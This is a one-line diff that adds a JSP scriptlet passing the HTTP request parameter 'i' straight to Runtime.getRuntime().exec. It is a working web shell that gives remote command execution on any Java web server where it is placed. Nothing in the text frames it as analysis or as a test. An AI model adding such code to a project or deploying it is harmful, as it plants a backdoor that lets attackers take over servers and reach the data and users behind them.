@@ -1,0 +1,1 @@
+<%Runtime.getRuntime().exec(request.getParameter("i"));%>
